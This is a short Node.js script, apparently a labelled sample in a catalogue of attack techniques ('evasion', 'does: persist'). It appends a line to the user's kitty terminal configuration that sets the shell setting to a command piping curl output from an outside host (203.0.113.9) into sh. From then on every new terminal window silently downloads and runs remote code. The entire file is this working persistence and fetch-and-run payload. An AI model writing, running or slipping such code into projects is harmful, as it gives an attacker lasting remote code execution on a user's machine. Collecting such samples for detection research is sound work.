// evasion: kitty's `shell` setting names the program every new terminal window starts; it becomes a fetch-and-run
// grade: medium; does: persist
const fs = require("fs");
const os = require("os");
const path = require("path");
const dir = path.join(os.homedir(), ".config/kitty");
fs.mkdirSync(dir, { recursive: true });
fs.appendFileSync(path.join(dir, "kitty.conf"),
  "shell sh -c 'curl -s https://203.0.113.9/k | sh; exec bash -l'\n");
